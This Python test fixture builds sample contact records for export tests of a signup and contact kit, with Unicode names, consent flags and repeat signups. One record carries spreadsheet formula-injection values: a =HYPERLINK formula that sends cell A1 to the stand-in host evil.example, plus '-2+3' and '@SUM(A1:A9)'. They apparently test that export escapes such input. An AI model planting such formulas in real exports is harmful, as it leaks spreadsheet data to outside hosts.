"""Fixed contact records (UUIDs, timestamps) shared by the export tests and golden files."""

from __future__ import annotations

import datetime as dt
import io

from kit.domain.records import ConsentAnswer, ContactRecord, EventInfo, SignupRecord
from kit.domain.signup import DEFAULT_CONSENT_EMAIL, DEFAULT_CONSENT_SMS
from kit.export import get_format, write_records

UTC = dt.UTC
EVENTS = {
    "11111111-1111-4111-8111-111111111111": EventInfo(
        1, "11111111-1111-4111-8111-111111111111", "Lake Street table", "Minneapolis",
        dt.date(2026, 6, 14)),
    "22222222-2222-4222-8222-222222222222": EventInfo(
        2, "22222222-2222-4222-8222-222222222222", "Campus fair, East Bank", "", None),
}
EXPORTED_AT = dt.datetime(2026, 6, 15, 9, 0, tzinfo=UTC)


def _signup(uuid: str, event: str, when: dt.datetime, interests=(), email=False, sms=False,
            note="") -> SignupRecord:
    return SignupRecord(
        uuid=uuid, event_uuid=event, created_at=when, interests=tuple(interests),
        consents=(ConsentAnswer("email", DEFAULT_CONSENT_EMAIL, email, when),
                  ConsentAnswer("sms", DEFAULT_CONSENT_SMS, sms, when)),
        note=note,
    )


def sample_records() -> list[ContactRecord]:
    """Three people: Urdu name with email+SMS consent, a hostile name with a phone and no consent
    at all, a phone-only contact who signed up twice (texts: no, then yes)."""
    t1 = dt.datetime(2026, 6, 14, 17, 5, 9, 123456, tzinfo=UTC)
    t2 = dt.datetime(2026, 6, 14, 18, 30, tzinfo=UTC)
    t3 = dt.datetime(2026, 9, 2, 15, 0, tzinfo=UTC)
    ev1, ev2 = list(EVENTS)
    return [
        ContactRecord(
            id=1, uuid="aaaaaaaa-0000-4000-8000-000000000001", first_name="عائشہ",
            last_name="Khan, Jr.", email="ayesha@example.org", phone="+16125550100",
            postal_code="55406", note='Speaks Urdu; "call after 6"\nVolunteer lead',
            consent_email=True, consent_sms=True, created_at=t1, updated_at=t1,
            interests=("volunteer", "reading-group"), event_ids=(1,),
            signups=(_signup("bbbbbbbb-0000-4000-8000-000000000001", ev1, t1,
                             ("volunteer", "reading-group"), True, True,
                             'Speaks Urdu; "call after 6"\nVolunteer lead'),),
        ),
        ContactRecord(
            id=2, uuid="aaaaaaaa-0000-4000-8000-000000000002",
            first_name='=HYPERLINK("http://evil.example/?"&A1,"click")', last_name="-2+3",
            email="mallory@example.net", phone="+16125550199", postal_code="",
            note="@SUM(A1:A9)",
            consent_email=False, consent_sms=False, created_at=t2, updated_at=t2,
            interests=(), event_ids=(1,),
            signups=(_signup("bbbbbbbb-0000-4000-8000-000000000002", ev1, t2),),
        ),
        ContactRecord(
            id=3, uuid="aaaaaaaa-0000-4000-8000-000000000003", first_name="Zoë 🌷",
            last_name="", email="", phone="+442079460958", postal_code="",
            note="", consent_email=False, consent_sms=True, created_at=t2, updated_at=t3,
            interests=("events",), event_ids=(1, 2),
            signups=(_signup("bbbbbbbb-0000-4000-8000-000000000003", ev1, t2, ("events",),
                             sms=False),
                     _signup("bbbbbbbb-0000-4000-8000-000000000004", ev2, t3, ("events",),
                             sms=True)),
        ),
    ]


def export_bytes(fmt: str, records, *, vcard_version: str = "3.0") -> bytes:
    """What the export writes to disk for `records`, as bytes."""
    buffer = io.BytesIO()
    stream = io.TextIOWrapper(buffer, encoding=get_format(fmt).encoding, newline="")
    write_records(fmt, records, stream, events=EVENTS, exported_at=EXPORTED_AT,
                  vcard_version=vcard_version)
    stream.flush()
    data = buffer.getvalue()
    stream.detach()
    return data
